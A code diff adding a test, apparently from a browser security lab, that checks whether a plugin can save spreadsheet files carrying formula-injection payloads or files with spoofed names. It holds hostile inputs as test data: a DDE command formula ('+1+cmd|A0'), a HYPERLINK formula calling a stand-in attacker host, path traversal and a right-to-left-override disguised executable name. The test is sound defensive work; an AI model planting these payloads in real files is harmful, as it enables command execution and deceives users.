@@ -1,4 +1,4 @@
-// Attempts 80 to 87: a plugin that was granted something, and makes the most of it.
+// Attempts 80 to 88: a plugin that was granted something, and makes the most of it.
 import type { Page } from 'puppeteer-core';
 import { pause, sightChanges, steadily, type Field } from './field.js';
 import type { LabOptions } from './lab.js';
@@ -104,6 +104,34 @@ const attempts = (evil: string): Readonly<Record<number, Made>> => {
       async attempt(ask) {
         const [first, second] = (await ask('bodies', `${evil}/granted/cookie`, `${evil}/granted/cookie`)) as string[];
         return first === second ? ['an answer came out of a cache'] : [];
+      },
+    },
+    88: {
+      options: { grants: [] },
+      async attempt(ask, _field, page) {
+        const save = async (name: string, type: string, text: string): Promise<string> => {
+          await ask('writes', name, type, text);
+          return page.evaluate(() => window.lab.save('evil'));
+        };
+        const formulas = ['=1+1', '+1+cmd|A0', '-2+3', '@SUM(1)', '\t=1', '\r=1', ' =1', '\uff1d1', '=HYPERLINK("https://evil.example/hit/88/x")'];
+        const through: string[] = [];
+        for (const [name, type, separator] of [['a.csv', 'text/csv', ','], ['a.csv', 'text/plain', ';'], ['a.tsv', 'text/tab-separated-values', '\t'], ['a.xls', 'text/plain', '\t'], ['a.csv', 'application/json', ',']] as const) {
+          for (const quoted of [false, true]) {
+            // far enough in that a formula lies across the parts in which a file travels
+            for (const before of [0, 39_994, 39_999]) {
+              const cells = formulas.map((one) => (quoted ? `"${one.replaceAll('"', '""')}"` : one.replaceAll('\t', '').replaceAll('\r', '')));
+              const text = await save(name, type, `${'x'.repeat(before)}${separator}${cells.join(separator)}\r\n${cells.join('\n')}`);
+              if (text.startsWith('refused')) through.push(`${name} ${type}: ${text}`);
+              const written = quoted ? [...text.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) => cell!) : text.split(/[,;\t\r\n]/);
+              for (const cell of written) if (/^(?:[\t\r]|\s*[=+\-@\uff1d])/.test(cell)) through.push(`${name} ${type}: ${JSON.stringify(cell)}`);
+            }
+          }
+        }
+        for (const [name, type] of [['a.html', 'text/html'], ['a.csv', 'text/html'], ['a.svg', 'image/svg+xml'], ['../a.csv', 'text/csv'], ['a.exe', 'text/csv'], ['a.lnk', 'text/plain'], ['.csv', 'text/csv'], ['a\u202evsc.exe', 'text/csv']] as const) {
+          const text = await save(name, type, '=1');
+          if (!text.startsWith('refused')) through.push(`written: ${name} as ${type}`);
+        }
+        return [...new Set(through)];
       },
     },
     87: {
